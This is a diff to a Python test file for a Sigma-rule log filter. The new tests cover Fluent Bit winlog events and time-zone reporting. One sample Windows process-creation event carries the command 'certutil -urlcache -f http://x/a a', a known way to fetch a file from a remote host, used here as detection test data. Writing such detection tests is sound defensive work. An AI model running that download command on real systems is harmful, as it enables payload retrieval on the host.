@@ -19,7 +19,7 @@ from pipeshell_filter.sigma.compile import compile_plan
 from pipeshell_filter.sigma.rule import BUILTIN_RULE, load_rule, parse_rule
 from pipeshell_filter.events.timeparse import NS, parse_time
 from clitools import records as output_records, run_cli
-from shapes import CLIENT, SELECTION, SERVER, SHAPES, Logical, expected_selections, logical_events
+from shapes import CLIENT, SELECTION, SERVER, SHAPES, Logical, expected_selections, fluentbit_winlog, logical_events
 
 FIXTURES = os.path.join(os.path.dirname(__file__), "fixtures", "shapes")
 EXPECTED = json.load(open(os.path.join(FIXTURES, "expected.json"), encoding="utf-8"))
@@ -403,3 +403,59 @@ def test_the_builtin_rule_on_fluent_bit_positional_events_says_nothing(shape):
     assert result.returncode == 0, result.stderr
     assert b"Event_Data_As_Map" not in result.stderr and b"no_event_data_map" not in result.stderr
     assert b"6 matched" in result.stderr
+
+
+# ------------------------------------------------------------------ Fluent Bit's older winlog input
+
+
+@given(logical_events(event_ids=(800,)))
+def test_fluent_bit_winlog_events_read_as_the_evtx_shape_does(event):
+    """Fluent Bit's winlog input writes ComputerName, TimeGenerated and the data by position only
+    (StringInserts; its ``Data`` is the record's binary data in hex).  Its records fell to the flat
+    profile: no time, no Computer, and 800's EventData was the empty binary data, so the built-in rule
+    never matched."""
+    record = json.loads(json.dumps(fluentbit_winlog(event)))
+    profile, event_id, computer, time_ns, matched = resolved(record)
+    assert profile == "fluentbit-winlog" and RESOLVER.view(record).where("EventData") == "StringInserts"
+    assert (event_id, computer) == ("800", event.host)
+    assert time_ns == _truncate(event.time_ns, NS)
+    assert matched == resolved(SHAPES["evtx"].render(event))[4] == expected_selections(event)
+
+
+def test_fluent_bit_winlog_positional_events_say_what_they_miss(tmp_path):
+    """A Security 4688 through the winlog input has no named data, so a process_creation rule misses;
+    that is said, with advice that fits this input (it has no Event_Data_As_Map).  The classic 800 still
+    matches a rule on ``Data``."""
+    (tmp_path / "certutil.yml").write_text(_CERTUTIL_RULE)
+    (tmp_path / "classic.yml").write_text(DATA_RULE)
+    local = "2026-12-03 11:00:00 +0100"
+    security = {"RecordNumber": 9, "TimeGenerated": local, "TimeWritten": local, "EventID": 4688, "Qualifiers": 0,
+                "EventType": "SuccessAudit", "EventCategory": 13312, "Channel": "Security",
+                "SourceName": "Microsoft-Windows-Security-Auditing", "ComputerName": "ws1",
+                "Data": "", "Sid": "", "Message": "A new process has been created.",
+                "StringInserts": ["S-1-5-18", "WS1$", "CORP", "0x3e7", "0x10f0", "C:\\Windows\\certutil.exe",
+                                  "%%1936", "0x1a2c", "certutil -urlcache -f http://x/a a"]}
+    classic = fluentbit_winlog(Logical("ws1", 1_764_756_001 * NS, 800, "Compress-Archive -Path C:\\x"))
+    lines = "".join(json.dumps(e) + "\n" for e in (security, classic)).encode()
+    result = run_cli(["--emit", "all", "--rule", str(tmp_path)], lines)
+    assert result.returncode == 0, result.stderr
+    said = [line for line in result.stderr.decode().splitlines() if "StringInserts" in line]
+    assert len(said) == 1 and said[0].startswith("pipeshell-filter: line 1: a Fluent Bit winlog event")
+    assert "CommandLine, Image" in said[0] and "winevtlog input, Event_Data_As_Map on" in said[0]
+    events = list(map(json.loads, result.stdout.splitlines()))
+    assert events[0] == security
+    assert events[1]["sigma"]["rule"]["title"] == "classic Data"
+
+
+def test_explain_says_a_time_without_a_zone_is_taken_as_utc(tmp_path):
+    """NXLog's older EventTime has no zone and is taken as UTC, right only on a host whose clock runs on
+    UTC: explain --event showed the time as if it were exact.  It now says so; times with a zone do not."""
+    said = {}
+    for shape in ("nxlog-legacy-time", "nxlog", "fluentbit-winevtlog"):
+        path = tmp_path / f"{shape}.json"
+        path.write_text(json.dumps(records(shape)[0]))
+        result = run_cli(["explain", "--event", str(path)])
+        assert result.returncode == 0, result.stderr
+        said[shape] = [line for line in result.stdout.decode().splitlines() if line.startswith("time ")][0]
+    assert said["nxlog-legacy-time"].endswith('(from EventTime = "2021-06-03 13:00:12"); no zone: taken as UTC')
+    assert "no zone" not in said["nxlog"] and "no zone" not in said["fluentbit-winevtlog"]
